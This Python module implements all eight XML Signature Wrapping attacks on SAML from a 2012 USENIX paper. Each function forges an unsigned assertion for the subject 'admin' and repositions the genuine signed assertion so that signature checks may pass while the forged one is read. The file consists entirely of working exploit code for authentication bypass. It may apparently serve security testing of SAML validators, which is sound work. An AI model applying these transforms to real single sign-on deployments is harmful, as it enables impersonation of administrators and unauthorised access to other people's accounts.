"""Signature wrapping: a signed assertion is moved where it still verifies, and an evil one put
where it might be read. The eight shapes of "On Breaking SAML" (USENIX Security 2012).
"""

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"


def evil_copy(assertion: Any, id: str = "_evil") -> Any:
    """The assertion for another subject, without a signature."""
    evil = copy.deepcopy(assertion)
    evil.set("ID", id)
    evil.find(f".//{SAML}NameID").text = "admin"
    signature = evil.find(f"{DS}Signature")
    if signature is not None:
        evil.remove(signature)
    return evil


def _signed_response(root: Any, *, signature_wraps: bool) -> Any:
    """XSW 1 and 2: the whole signed response inside of, or beside, an evil one's signature."""
    evil = copy.deepcopy(root)
    evil.set("ID", "_evil")
    evil.find(f".//{SAML}NameID").text = "admin"
    signature = evil.find(f"{DS}Signature")
    original = copy.deepcopy(root)
    original.remove(original.find(f"{DS}Signature"))
    if signature_wraps:
        etree.SubElement(signature, f"{DS}Object").append(original)
    else:
        signature.addprevious(original)
    return evil


def xsw1(root: Any) -> Any:
    return _signed_response(root, signature_wraps=True)


def xsw2(root: Any) -> Any:
    return _signed_response(root, signature_wraps=False)


def xsw3(root: Any) -> Any:
    """The evil assertion before the signed one."""
    assertion = root.find(f"{SAML}Assertion")
    assertion.addprevious(evil_copy(assertion))
    return root


def xsw4(root: Any) -> Any:
    """The signed assertion inside of the evil one."""
    assertion = root.find(f"{SAML}Assertion")
    evil = evil_copy(assertion)
    root.replace(assertion, evil)
    evil.append(assertion)
    return root


def xsw5(root: Any) -> Any:
    """The evil assertion keeps the signature; the signed one follows without it."""
    assertion = root.find(f"{SAML}Assertion")
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f".//{SAML}NameID").text = "admin"
    root.append(original)
    return root


def xsw6(root: Any) -> Any:
    """As before, the signed one inside of the signature."""
    assertion = root.find(f"{SAML}Assertion")
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f".//{SAML}NameID").text = "admin"
    assertion.find(f"{DS}Signature").append(original)
    return root


def xsw7(root: Any) -> Any:
    """The evil assertion in Extensions, which may hold anything."""
    assertion = root.find(f"{SAML}Assertion")
    extensions = etree.Element(f"{SAMLP}Extensions")
    root.insert(1, extensions)
    extensions.append(evil_copy(assertion, assertion.get("ID")))
    return root


def xsw8(root: Any) -> Any:
    """The signed assertion in an Object of the evil one's signature."""
    assertion = root.find(f"{SAML}Assertion")
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{DS}Signature"))
    assertion.set("ID", "_evil")
    assertion.find(f".//{SAML}NameID").text = "admin"
    etree.SubElement(assertion.find(f"{DS}Signature"), f"{DS}Object").append(original)
    return root


SHAPES: tuple[Callable[[Any], Any], ...] = (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)
